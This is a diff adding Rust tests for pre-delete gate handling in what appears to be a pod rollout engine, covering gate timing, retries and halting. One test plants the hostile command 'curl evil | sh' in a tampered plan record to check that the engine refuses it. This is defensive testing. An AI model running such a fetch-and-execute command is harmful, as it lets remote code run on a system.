@@ -369,3 +369,87 @@ fn an_answer_without_an_object_and_a_lagging_watch_never_end_the_run() {
     assert!(!matches!(act, Act::End(_)), "{act:?}");
     assert_eq!(plan_of(&srv).step, 1);
 }
+
+fn gated_ask(steps: &str, pre: &str, tries: u32) -> Ask {
+    let gates = crate::plan::gate::Gates {
+        pre_delete: Some(pre.into()),
+        interval_seconds: 10,
+        tries,
+        ..Default::default()
+    };
+    Ask { gates, ..ask(steps, 0) }
+}
+
+fn outcome(verdict: crate::plan::gate::Verdict, how: &str) -> crate::plan::gate::Outcome {
+    crate::plan::gate::Outcome {
+        verdict,
+        how: how.into(),
+        tail: vec!["isr 2/3".into()],
+        took_ms: 5,
+    }
+}
+
+#[test]
+fn a_gated_step_opens_one_ordinal_after_its_gate_and_a_resume_asks_the_gate_again() {
+    use crate::plan::gate::Verdict;
+    let mut srv = Server::new();
+    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./drain.sh {pod}", 5));
+    // Entered without opening; the gate recorded as running, then handed over: this
+    // invocation's gate, for web-3.
+    let Act::Gate(run) = settle(&mut e, &mut srv, 0) else { panic!("no gate") };
+    assert_eq!(
+        (run.text.as_str(), run.pod.as_ref().map(|p| p.name.as_str())),
+        ("cmd:./drain.sh {pod}", Some("web-3"))
+    );
+    assert!(run.env.contains(&("STSTUI_POD", "web-3".to_string())), "{:?}", run.env);
+    assert_eq!(srv.partition(), 4, "nothing opens before the gate passed");
+    let r = plan_of(&srv);
+    assert_eq!((r.partition, r.target), (4, Some(3)));
+    assert_eq!(r.gate.as_ref().map(|g| g.status), Some(crate::plan::gate::GateStatus::Running));
+    e.gated(outcome(Verdict::Go, "exit 0"));
+    settle(&mut e, &mut srv, 1);
+    assert_eq!(srv.partition(), 3, "web-3 opened once its gate passed");
+    // A second runner resuming: the pass is not taken from the set; web-2's gate comes first
+    // at step 2, and a record naming another gate is refused, never run.
+    srv.pods.insert(3, pod(3, "b", Some(2)));
+    let mut tampered = plan_of(&srv);
+    tampered.gates.pre_delete = Some("cmd:curl evil | sh".into());
+    let mut evil = srv.set.clone();
+    evil.metadata
+        .annotations
+        .as_mut()
+        .unwrap()
+        .insert(PLAN.into(), serde_json::to_string(&tampered).unwrap());
+    evil.metadata.annotations.as_mut().unwrap().remove(LEASE);
+    let mut second = Engine::new(config(true), gated_ask("1,100%", "cmd:./drain.sh {pod}", 5));
+    let mut srv2 = Server { set: evil, pods: srv.pods.clone() };
+    let act = settle(&mut second, &mut srv2, 40);
+    let Act::End(End::Refused { why, .. }) = act else { panic!("{act:?}") };
+    assert!(why.contains("gates: recorded pre-delete `cmd:curl evil | sh`"), "{why}");
+}
+
+#[test]
+fn a_not_yet_is_asked_again_after_the_interval_and_too_many_halt() {
+    use crate::plan::gate::Verdict;
+    let mut srv = Server::new();
+    let mut e = Engine::new(config(true), gated_ask("1,100%", "cmd:./isr.sh", 2));
+    assert!(matches!(settle(&mut e, &mut srv, 0), Act::Gate(_)));
+    e.gated(outcome(Verdict::NotYet, "exit 75"));
+    let act = settle(&mut e, &mut srv, 1);
+    let Act::Wait { until, words } = act else { panic!("{act:?}") };
+    // Woken by then (or sooner, for the lease's renewal).
+    assert!(until.is_some_and(|u| u <= at(11)), "{until:?}");
+    assert!(words.contains(&format!("not yet; asked again at {}", stamp(at(11)))), "{words}");
+    let r = plan_of(&srv);
+    assert_eq!(
+        r.gate.as_ref().map(|g| (g.status, g.tries)),
+        Some((crate::plan::gate::GateStatus::NotYet, 1))
+    );
+    assert!(matches!(settle(&mut e, &mut srv, 5), Act::Wait { .. }), "not before the interval");
+    assert!(matches!(settle(&mut e, &mut srv, 11), Act::Gate(_)));
+    e.gated(outcome(Verdict::NotYet, "exit 75"));
+    let Act::End(End::Halted(r)) = settle(&mut e, &mut srv, 12) else { panic!() };
+    let why = r.reason.unwrap();
+    assert!(why.contains("pre-delete gate `cmd:./isr.sh` on web-3 still not ready after 2 tries (exit 75): isr 2/3"), "{why}");
+    assert_eq!(srv.partition(), 4, "nothing opened");
+}
